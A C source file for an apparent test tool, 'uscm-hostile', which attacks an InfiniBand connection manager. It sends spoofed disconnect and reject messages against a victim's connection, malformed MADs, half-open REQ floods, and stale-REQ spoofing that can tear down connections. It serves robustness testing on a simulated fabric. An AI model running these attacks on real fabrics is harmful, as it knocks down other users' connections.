/*
 * uscm-hostile - a hostile node for testing a connection manager: it opens
 * its own port through libibumad (umad/um_transport.h, as uscm does) and
 * sends CM MADs meant to disturb connections it is no part of:
 *
 *   rej dreq drep rtu mra rep lap   a spoofed message naming a victim's
 *                                    connection: with the right comm IDs
 *                                    (--guess exact, as a sniffer would
 *                                    have them), near misses, sequential or
 *                                    random guesses;
 *   malformed                        bad versions, unknown attributes, wrong
 *                                    method, reserved bits, out-of-range
 *                                    fields and over-long length fields;
 *   req-flood                        REQs with fresh comm IDs and QPNs that
 *                                    never send an RTU (half-open flood);
 *   stale-req                        REQs that claim to be the victim's peer
 *                                    reconnecting its QP (the peer's CA GUID
 *                                    and QPN, a fresh comm ID) for a service
 *                                    nobody listens on: a CM that believes
 *                                    it (the kernel's) disconnects the
 *                                    victim's connection.
 *
 * It then listens --wait-ms for what the victim answers and prints one
 * summary line: "sent N <attack> to LID x: replies REJ=a MRA=b ...". The
 * victim's side of the story is in its counters (uscm_get_stats,
 * USCM_STATS); docs/reliability.md lists the expected outcome of each
 * attack and the test that checks it (tests/lib/test_lib_hostile.c).
 *
 * On the simulated fabric, run it as a node of its own:
 *   USCM_SIM_NODE=node3 uscm-hostile --dlid 3 dreq --victim-id 0x... --victim-qpn 0x...
 */
#include <errno.h>
#include <inttypes.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <infiniband/umad.h>

#include "cm_proto/cmp_cm.h"
#include "cm_proto/cmp_cma.h"
#include "umad/um_transport.h"

#define HOSTILE_GUID 0x0002c903deadbeefULL

struct opts {
	const char *ca;
	int port;
	struct cmp_addr dst;
	const char *attack;
	uint32_t victim_id, peer_id, victim_qpn;
	uint32_t peer_qpn;   /* stale-req: the victim's peer's QPN and CA GUID */
	uint64_t peer_guid;
	uint64_t sid;
	unsigned count;
	unsigned interval_us;
	unsigned wait_ms;
	const char *guess; /* exact near seq random */
	uint64_t seed;
	const char *cma_dst; /* req-flood: CMA header to this IPv4 address */
	unsigned until;      /* stop waiting once this many replies came */
};

static uint64_t rng;

static uint32_t rnd(void)
{
	uint64_t z = (rng += 0x9E3779B97F4A7C15ULL);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
	return (uint32_t)(z ^ (z >> 31));
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: uscm-hostile [--ca NAME] [--port N] (--dlid LID | --dgid GID)\n"
		"                    [--pkey-index I] [--count N] [--interval-us U] [--wait-ms W]\n"
		"                    [--until N] [--seed S] ATTACK [attack options]\n"
		"  (--wait-ms: listen that long for replies after sending; --until: or\n"
		"  until N replies came)\n"
		"attacks:\n"
		"  rej|dreq|drep|rtu|mra|rep|lap  --victim-id ID [--peer-id ID] [--victim-qpn QPN]\n"
		"                                 [--guess exact|near|seq|random]\n"
		"      a message naming the victim's connection (the victim's comm ID goes in\n"
		"      'remote comm ID', the peer's in 'local comm ID'); --count MADs\n"
		"  malformed [--victim-id ID --peer-id ID]  --count MADs cycling through bad\n"
		"      base/class versions, unknown attribute, wrong method, reserved bits,\n"
		"      out-of-range enumerations and over-long length fields\n"
		"  req-flood --sid SID [--cma-dst IPV4]  --count REQs that never complete\n"
		"      (--cma-dst: with the rdma_cm IP header, as an rdma_cm listener wants)\n"
		"  stale-req --peer-guid GUID --peer-qpn QPN [--sid SID]  --count REQs naming\n"
		"      the victim's peer (its CA GUID and QPN) under fresh comm IDs, for SID\n"
		"      (default 0: nobody listens): the peer reconnecting, as far as they say\n");
}

static int parse_u64(const char *s, uint64_t *v)
{
	char *end;

	errno = 0;
	*v = strtoull(s, &end, 0);
	return errno || !*s || *end ? -1 : 0;
}

/* ---- message builders ---------------------------------------------------- */

static void hdr(struct cmp_cm_msg *m, uint16_t attr)
{
	memset(m, 0, sizeof(*m));
	m->hdr.attr_id = attr;
	m->hdr.method = UMAD_METHOD_SEND;
	m->hdr.tid = (uint64_t)rnd() << 32 | rnd();
}

static uint32_t guessed_id(const struct opts *o, unsigned k)
{
	if (!strcmp(o->guess, "near")) /* +1, -1, +2, -2 ... never the right one */
		return o->victim_id + ((k & 1) ? -(uint32_t)(k / 2 + 1) : (uint32_t)(k / 2 + 1));
	if (!strcmp(o->guess, "seq"))
		return k + 1;
	if (!strcmp(o->guess, "random"))
		return rnd();
	return o->victim_id;
}

/* A spoofed message naming (victim, peer) as the peer would. */
static int build_spoof(const struct opts *o, unsigned k, uint8_t mad[CMP_MAD_SIZE])
{
	struct cmp_cm_msg m;
	uint32_t victim = guessed_id(o, k), peer = o->peer_id;
	const char *a = o->attack;

	if (!strcmp(a, "rej")) {
		hdr(&m, UMAD_CM_ATTR_REJ);
		m.u.rej.local_comm_id = peer;
		m.u.rej.remote_comm_id = victim;
		m.u.rej.message_rejected = (uint8_t)(k % 3); /* REQ, REP, other */
		m.u.rej.reason = 28;                         /* consumer defined */
	} else if (!strcmp(a, "dreq")) {
		hdr(&m, UMAD_CM_ATTR_DREQ);
		m.u.dreq.local_comm_id = peer;
		m.u.dreq.remote_comm_id = victim;
		m.u.dreq.remote_qpn_eecn = o->victim_qpn;
	} else if (!strcmp(a, "drep")) {
		hdr(&m, UMAD_CM_ATTR_DREP);
		m.u.drep.local_comm_id = peer;
		m.u.drep.remote_comm_id = victim;
	} else if (!strcmp(a, "rtu")) {
		hdr(&m, UMAD_CM_ATTR_RTU);
		m.u.rtu.local_comm_id = peer;
		m.u.rtu.remote_comm_id = victim;
	} else if (!strcmp(a, "mra")) {
		hdr(&m, UMAD_CM_ATTR_MRA);
		m.u.mra.local_comm_id = peer;
		m.u.mra.remote_comm_id = victim;
		m.u.mra.message_mraed = (uint8_t)(k % 2); /* REQ, REP */
		m.u.mra.service_timeout = 31;             /* "wait 2.4 hours" */
	} else if (!strcmp(a, "rep")) {
		hdr(&m, UMAD_CM_ATTR_REP);
		m.u.rep.local_comm_id = peer;
		m.u.rep.remote_comm_id = victim;
		m.u.rep.local_qpn = rnd() & 0xFFFFFF;
		m.u.rep.local_ca_guid = HOSTILE_GUID;
	} else if (!strcmp(a, "lap")) {
		hdr(&m, UMAD_CM_ATTR_LAP);
		m.u.lap.local_comm_id = peer;
		m.u.lap.remote_comm_id = victim;
		m.u.lap.remote_qpn_eecn = o->victim_qpn;
	} else {
		return -1;
	}
	return cmp_cm_encode(&m, mad);
}

/* One REQ of a flood: a new comm ID, QPN and PSN each time (QPNs distinct,
 * so the victim sees no stale connection, only new ones). For stale-req, the
 * peer's QPN and CA GUID every time, so the victim sees only stale ones. */
static int build_req(const struct opts *o, unsigned k, uint16_t my_lid, uint8_t mad[CMP_MAD_SIZE])
{
	static uint32_t qpn_base;
	struct cmp_cm_msg m;
	struct cmp_cm_req *r = &m.u.req;

	hdr(&m, UMAD_CM_ATTR_REQ);
	r->local_comm_id = rnd() | 1;
	r->service_id = o->sid;
	r->local_ca_guid = HOSTILE_GUID;
	if (!k)
		qpn_base = rnd();
	r->local_qpn = (qpn_base + k) & 0xFFFFFF;
	if (!strcmp(o->attack, "stale-req")) {
		/* The victim's peer's QP, connected to the victim: a new comm ID
		 * for it says the peer reconnected it (IBTA: stale connection). */
		r->local_ca_guid = o->peer_guid;
		r->local_qpn = o->peer_qpn;
	}
	r->starting_psn = rnd() & 0xFFFFFF;
	r->responder_resources = r->initiator_depth = 1;
	r->remote_cm_response_timeout = r->local_cm_response_timeout = 20;
	r->retry_count = r->rnr_retry_count = 7;
	r->max_cm_retries = 15;
	r->pkey = 0xFFFF;
	r->path_mtu = 4;
	r->primary_local_lid = my_lid;
	r->primary_remote_lid = o->dst.lid;
	r->primary_subnet_local = 1;
	r->primary_local_ack_timeout = 18;
	r->primary_packet_rate = 3;
	if (o->cma_dst) {
		/* An rdma_cm peer (IP port spaces) wants the CMA header: without
		 * it the REQ names no listening address and is refused at once. */
		struct sockaddr_in src = { .sin_family = AF_INET }, dst = src;
		src.sin_port = htons((uint16_t)(1024 + rnd() % 60000));
		src.sin_addr.s_addr = htonl(0x0A000000u | (rnd() & 0xFFFFFF));
		inet_pton(AF_INET, o->cma_dst, &dst.sin_addr);
		dst.sin_port = htons((uint16_t)o->sid);
		if (cmp_cma_hdr_build(r->private_data, sizeof(r->private_data),
				      (struct sockaddr *)&src, (struct sockaddr *)&dst))
			return -1;
	}
	return cmp_cm_encode(&m, mad);
}

/* Variant k of a malformed MAD: a valid one, then broken in one place. */
static int build_malformed(const struct opts *o, unsigned k, uint8_t mad[CMP_MAD_SIZE])
{
	struct cmp_cm_msg m;
	const uint8_t data = CMP_MAD_HDR_SIZE; /* offset of the attribute data */

	hdr(&m, UMAD_CM_ATTR_REJ);
	m.u.rej.local_comm_id = o->peer_id;
	m.u.rej.remote_comm_id = o->victim_id;
	m.u.rej.message_rejected = 2;
	m.u.rej.reason = 28;
	if (cmp_cm_encode(&m, mad))
		return -1;
	switch (k % 10) {
	case 0: mad[0] = 2; break;                  /* base version */
	case 1: mad[2] = 1; break;                  /* CM class version 1 */
	case 2: mad[16] = 0x00; mad[17] = 0x77; break; /* unknown attribute */
	case 3: mad[3] = 0x01; break;               /* method Get, not Send */
	case 4: mad[data + 8] |= 0xFC; break;       /* REJ reserved bits */
	case 5: mad[data + 9] = 0x7F; break;        /* REJ ARI length 127 > 72 */
	case 6: mad[data + 8] = 3; break;           /* REJ message rejected 3 */
	case 7: /* MRA: message MRAed 3 */
		hdr(&m, UMAD_CM_ATTR_MRA);
		m.u.mra.local_comm_id = o->peer_id;
		m.u.mra.remote_comm_id = o->victim_id;
		if (cmp_cm_encode(&m, mad))
			return -1;
		mad[data + 8] = 3;
		break;
	case 8: /* SIDR_REP with additional info length 255 */
		hdr(&m, UMAD_CM_ATTR_SIDR_REP);
		m.u.sidr_rep.request_id = o->victim_id;
		if (cmp_cm_encode(&m, mad))
			return -1;
		mad[data + 5] = 0xFF;
		break;
	default: /* random bytes behind a CM header */
		for (int i = data; i < CMP_MAD_SIZE; i++)
			mad[i] = (uint8_t)rnd();
		break;
	}
	return 0;
}

/* ---- replies ---------------------------------------------------------------- */

static unsigned replies[32], other_replies, nreplies;

/* Reads replies for ms, or until `until` (if not 0) have come. */
static void collect(struct um_port *p, unsigned ms, unsigned until)
{
	struct timespec t0, now;
	struct um_rx rx;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct pollfd pf = { .fd = um_port_fd(p), .events = POLLIN };
		long left;

		while (um_port_recv(p, &rx) == 1) {
			if (rx.agent == UM_AGENT_CM && !rx.status && rx.len >= CMP_MAD_HDR_SIZE)
				replies[rx.mad[17] & 31]++; /* attribute ID, low byte */
			else
				other_replies++;
			nreplies++;
		}
		if (until && nreplies >= until)
			return;
		clock_gettime(CLOCK_MONOTONIC, &now);
		left = (long)ms - ((now.tv_sec - t0.tv_sec) * 1000 +
				   (now.tv_nsec - t0.tv_nsec) / 1000000);
		if (left <= 0)
			return;
		poll(&pf, 1, (int)left);
	}
}

/* ---- main --------------------------------------------------------------------- */

static const char *first_ca(char *buf, size_t len)
{
	char names[4][UMAD_CA_NAME_LEN];

	if (umad_get_cas_names(names, 4) < 1)
		return NULL;
	snprintf(buf, len, "%s", names[0]);
	return buf;
}

int main(int argc, char **argv)
{
	struct opts o = { .port = 1, .count = 1, .wait_ms = 300, .guess = "exact", .seed = 1 };
	char cabuf[UMAD_CA_NAME_LEN], err[256];
	struct um_port *p;
	uint64_t v;
	unsigned sent = 0, failed = 0;
	int i;

	o.dst.qpn = 1;
	o.dst.qkey = UM_QKEY_GSI;
	for (i = 1; i < argc; i++) {
		const char *a = argv[i], *val = i + 1 < argc ? argv[i + 1] : NULL;
		int bad = 0;

		if (!strcmp(a, "-h") || !strcmp(a, "--help")) {
			usage(stdout);
			return 0;
		} else if (a[0] != '-') {
			if (o.attack) {
				fprintf(stderr, "uscm-hostile: two attacks: %s and %s\n", o.attack, a);
				return 2;
			}
			o.attack = a;
			continue;
		} else if (!val) {
			bad = 1;
		} else if (!strcmp(a, "--ca")) {
			o.ca = val;
		} else if (!strcmp(a, "--port")) {
			bad = parse_u64(val, &v) || !v || v > 255;
			o.port = (int)v;
		} else if (!strcmp(a, "--dlid")) {
			bad = parse_u64(val, &v) || v > 0xFFFF;
			o.dst.lid = (uint16_t)v;
		} else if (!strcmp(a, "--dgid")) {
			bad = inet_pton(AF_INET6, val, o.dst.gid) != 1;
			o.dst.grh = 1;
		} else if (!strcmp(a, "--pkey-index")) {
			bad = parse_u64(val, &v) || v > 0xFFFF;
			o.dst.pkey_index = (uint16_t)v;
		} else if (!strcmp(a, "--victim-id")) {
			bad = parse_u64(val, &v) || v > 0xFFFFFFFFu;
			o.victim_id = (uint32_t)v;
		} else if (!strcmp(a, "--peer-id")) {
			bad = parse_u64(val, &v) || v > 0xFFFFFFFFu;
			o.peer_id = (uint32_t)v;
		} else if (!strcmp(a, "--victim-qpn")) {
			bad = parse_u64(val, &v) || v > 0xFFFFFF;
			o.victim_qpn = (uint32_t)v;
		} else if (!strcmp(a, "--peer-qpn")) {
			bad = parse_u64(val, &v) || v > 0xFFFFFF;
			o.peer_qpn = (uint32_t)v;
		} else if (!strcmp(a, "--peer-guid")) {
			bad = parse_u64(val, &o.peer_guid);
		} else if (!strcmp(a, "--sid")) {
			bad = parse_u64(val, &v);
			o.sid = v;
		} else if (!strcmp(a, "--count")) {
			bad = parse_u64(val, &v) || v > 100000000;
			o.count = (unsigned)v;
		} else if (!strcmp(a, "--interval-us")) {
			bad = parse_u64(val, &v) || v > 10000000;
			o.interval_us = (unsigned)v;
		} else if (!strcmp(a, "--wait-ms")) {
			bad = parse_u64(val, &v) || v > 600000;
			o.wait_ms = (unsigned)v;
		} else if (!strcmp(a, "--guess")) {
			o.guess = val;
			bad = strcmp(val, "exact") && strcmp(val, "near") && strcmp(val, "seq") &&
			      strcmp(val, "random");
		} else if (!strcmp(a, "--cma-dst")) {
			struct in_addr tmp;
			o.cma_dst = val;
			bad = inet_pton(AF_INET, val, &tmp) != 1;
		} else if (!strcmp(a, "--until")) {
			bad = parse_u64(val, &v) || v > 100000000;
			o.until = (unsigned)v;
		} else if (!strcmp(a, "--seed")) {
			bad = parse_u64(val, &o.seed);
		} else {
			fprintf(stderr, "uscm-hostile: unknown option %s\n", a);
			usage(stderr);
			return 2;
		}
		if (bad) {
			fprintf(stderr, "uscm-hostile: bad or missing value for %s\n", a);
			return 2;
		}
		i++;
	}
	if (!o.attack || (!o.dst.lid && !o.dst.grh)) {
		usage(stderr);
		return 2;
	}
	rng = o.seed;
	if (!o.ca && !(o.ca = first_ca(cabuf, sizeof(cabuf)))) {
		fprintf(stderr, "uscm-hostile: no CA found by libibumad\n");
		return 1;
	}
	if (um_port_open(o.ca, o.port, UM_OPEN_CM, &p, err, sizeof(err)) < 0) {
		fprintf(stderr, "uscm-hostile: %s\n", err[0] ? err : strerror(errno));
		return 1;
	}
	uint16_t my_lid = um_port_info(p)->lid;
	for (unsigned k = 0; k < o.count; k++) {
		uint8_t mad[CMP_MAD_SIZE];
		int rc;

		if (!strcmp(o.attack, "req-flood") || !strcmp(o.attack, "stale-req"))
			rc = build_req(&o, k, my_lid, mad);
		else if (!strcmp(o.attack, "malformed"))
			rc = build_malformed(&o, k, mad);
		else
			rc = build_spoof(&o, k, mad);
		if (rc) {
			fprintf(stderr, "uscm-hostile: unknown attack %s\n", o.attack);
			um_port_close(p);
			return 2;
		}
		if (um_port_send_cm(p, &o.dst, mad) == 0)
			sent++;
		else
			failed++;
		if (o.interval_us)
			usleep(o.interval_us);
		if ((k & 15) == 15)
			collect(p, 0, 0); /* keep our receive queue short */
	}
	collect(p, o.wait_ms, o.until);
	printf("sent %u %s to %s%u (failed %u): replies", sent, o.attack,
	       o.dst.grh ? "GID, LID " : "LID ", o.dst.lid, failed);
	for (i = 0; i < 32; i++)
		if (replies[i])
			printf(" %s=%u", cmp_cm_attr_str((uint16_t)i), replies[i]); /* CM IDs < 32 */
	printf(" other=%u\n", other_replies);
	um_port_close(p);
	return failed ? 1 : 0;
}
